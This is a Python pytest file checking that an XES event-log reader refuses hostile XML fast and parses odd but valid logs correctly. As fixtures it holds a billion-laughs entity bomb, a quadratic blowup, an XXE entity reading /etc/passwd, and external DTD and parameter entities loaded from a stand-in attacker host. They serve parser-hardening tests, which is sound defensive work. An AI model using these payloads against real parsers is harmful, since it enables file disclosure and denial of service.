"""XES reader: hostile documents are refused fast with a clear error; odd-but-valid XES is read right."""

# ruff: noqa: E501  (the XML fixtures read best one element per line)

from __future__ import annotations

import gzip
import time
from pathlib import Path

import pytest

from worker.mining import MiningInputError, discover, preview, read_log, read_xes

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE log [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<log><trace><string key="concept:name" value="&lol9;"/>
<event><string key="concept:name" value="&lol9;"/><date key="time:timestamp" value="2020-01-01T00:00:00Z"/></event>
</trace></log>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE log [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<log><trace><string key="concept:name" value="c1"/>
<event><string key="concept:name" value="&xxe;"/><date key="time:timestamp" value="2020-01-01T00:00:00Z"/></event>
</trace></log>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE log SYSTEM "http://attacker.invalid/evil.dtd">
<log><trace><string key="concept:name" value="c1"/>
<event><string key="concept:name" value="a"/><date key="time:timestamp" value="2020-01-01T00:00:00Z"/></event>
</trace></log>
"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE log [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<log/>
"""

QUADRATIC_BLOWUP = (
    '<?xml version="1.0"?>\n<!DOCTYPE log [<!ENTITY a "' + "x" * 50_000 + '">]>\n<log><trace>'
    '<string key="concept:name" value="' + "&a;" * 20_000 + '"/></trace></log>\n'
)

UNDECLARED_ENTITY = """<?xml version="1.0"?>
<log><trace><string key="concept:name" value="&xxe;"/></trace></log>
"""


def _write(tmp_path: Path, name: str, text: str, *, compress: bool = False) -> Path:
    path = tmp_path / name
    data = text.encode("utf-8")
    path.write_bytes(gzip.compress(data) if compress else data)
    return path


@pytest.mark.parametrize(
    ("name", "text", "needle"),
    [
        ("billion_laughs.xes", BILLION_LAUGHS, "DOCTYPE"),
        ("external_entity.xes", EXTERNAL_ENTITY, "DOCTYPE"),
        ("external_dtd.xes", EXTERNAL_DTD, "DOCTYPE"),
        ("parameter_entity.xes", PARAMETER_ENTITY, "DOCTYPE"),
        ("quadratic.xes", QUADRATIC_BLOWUP, "DOCTYPE"),
    ],
)
@pytest.mark.parametrize("compress", [False, True], ids=["plain", "gz"])
def test_hostile_xml_is_refused_fast(
    tmp_path: Path, name: str, text: str, needle: str, compress: bool
) -> None:
    path = _write(tmp_path, name + (".gz" if compress else ""), text, compress=compress)
    started = time.perf_counter()
    with pytest.raises(MiningInputError) as err:
        read_log(path)
    assert time.perf_counter() - started < 1.0
    message = str(err.value)
    assert needle in message
    assert "refused" in message and "without a DOCTYPE" in message
    # Nothing from the entity made it into the message (no file content, no expansion).
    assert "root:" not in message and "lol" not in message


def test_preview_refuses_hostile_xml_too(tmp_path: Path) -> None:
    with pytest.raises(MiningInputError, match="DOCTYPE"):
        preview(_write(tmp_path, "bomb.xes", BILLION_LAUGHS))


def test_undeclared_entity_is_a_clear_error(tmp_path: Path) -> None:
    with pytest.raises(MiningInputError, match=r"not well-formed XML at line 2"):
        read_xes(_write(tmp_path, "undeclared.xes", UNDECLARED_ENTITY))


def test_truncated_xes_names_the_line(tmp_path: Path) -> None:
    text = '<?xml version="1.0"?>\n<log>\n<trace><string key="concept:name" value="c1"/>\n<event>\n'
    with pytest.raises(MiningInputError, match="not well-formed XML"):
        read_xes(_write(tmp_path, "truncated.xes", text))


def test_empty_and_non_log_xml(tmp_path: Path) -> None:
    with pytest.raises(MiningInputError, match="empty or is not an XES"):
        read_xes(_write(tmp_path, "empty.xes", ""))
    with pytest.raises(MiningInputError, match="no events"):
        read_xes(_write(tmp_path, "nolog.xes", '<?xml version="1.0"?><log><string key="a" value="b"/></log>'))


def test_corrupt_gzip_is_a_clear_error(tmp_path: Path) -> None:
    path = tmp_path / "broken.xes.gz"
    path.write_bytes(gzip.compress(b"<log>" * 1000)[:40])
    with pytest.raises(MiningInputError, match="cannot be decompressed|not well-formed"):
        read_xes(path)


def test_decompression_limit(tmp_path: Path) -> None:
    path = _write(tmp_path, "big.xes.gz", "<log>" + " " * 5_000_000 + "</log>", compress=True)
    with pytest.raises(MiningInputError, match="expands to more than"):
        read_xes(path, max_bytes=1_000_000)


ODD_BUT_VALID = """<?xml version="1.0" encoding="UTF-8"?>
<!-- a comment before the root -->
<xes:log xmlns:xes="http://www.xes-standard.org/" xes.version="1.0">
  <xes:global scope="event"><xes:string key="concept:name" value="UNKNOWN"/></xes:global>
  <xes:trace>
    <xes:event>
      <xes:string value="Logged" key="concept:name"/>
      <xes:date key="time:timestamp" value="2020-03-01T10:00:00+01:00"/>
      <xes:list key="tags"><xes:values><xes:string key="concept:name" value="NESTED"/></xes:values></xes:list>
      <xes:string key="org:resource" value="Ann &amp; Bob"/>
    </xes:event>
    <xes:string key="concept:name" value="case &lt;1&gt;"/>
    <xes:event>
      <xes:string key="concept:name" value="Closed"/>
      <xes:date key="time:timestamp" value="2020-03-01T09:30:00Z"/>
      <xes:string key="lifecycle:transition" value="complete"/>
    </xes:event>
  </xes:trace>
  <xes:trace>
    <xes:event>
      <xes:string key="concept:name" value="Logged"/>
      <xes:date key="time:timestamp" value="2020-03-02T10:00:00.123456"/>
    </xes:event>
  </xes:trace>
  <xes:event><xes:string key="concept:name" value="orphan"/><xes:date key="time:timestamp" value="2020-03-02T10:00:00Z"/></xes:event>
</xes:log>
"""


def test_prefixes_nesting_attribute_order_and_entities(tmp_path: Path) -> None:
    table = read_xes(_write(tmp_path, "odd.xes", ODD_BUT_VALID))
    rows = table.frame.to_dicts()
    assert [r["case"] for r in rows] == ["case <1>", "case <1>", "(unnamed trace 2)"]
    # Nested attributes (inside <list>) do not overwrite the event's own concept:name.
    assert [r["activity"] for r in rows] == ["Logged", "Closed", "Logged"]
    assert rows[0]["resource"] == "Ann & Bob"
    assert [r["timestamp"].isoformat() for r in rows] == [
        "2020-03-01T09:00:00+00:00",
        "2020-03-01T09:30:00+00:00",
        "2020-03-02T10:00:00.123456+00:00",
    ]
    assert any("outside any trace" in n for n in table.notes)
    assert any("no concept:name" in n for n in table.notes)
    result = discover(table)
    edge = result.edge("Logged", "Closed")
    assert edge is not None and edge.median_s == 1800.0


def test_bad_xes_timestamp_names_the_event(tmp_path: Path) -> None:
    text = (
        '<log><trace><string key="concept:name" value="c"/>'
        '<event><string key="concept:name" value="a"/><date key="time:timestamp" value="2020-01-01T00:00:00Z"/></event>'
        '<event><string key="concept:name" value="b"/><date key="time:timestamp" value="yesterday"/></event>'
        "</trace></log>"
    )
    with pytest.raises(MiningInputError, match=r"event 2: 'yesterday' is not a date"):
        read_xes(_write(tmp_path, "badtime.xes", text))


def test_xes_preview(tmp_path: Path) -> None:
    result = preview(_write(tmp_path, "odd.xes", ODD_BUT_VALID), n_rows=2)
    assert result.format == "xes"
    assert result.columns[:3] == ["case:concept:name", "concept:name", "time:timestamp"]
    assert len(result.rows) == 2
    assert result.proposal is not None and result.proposal.case == "case:concept:name"
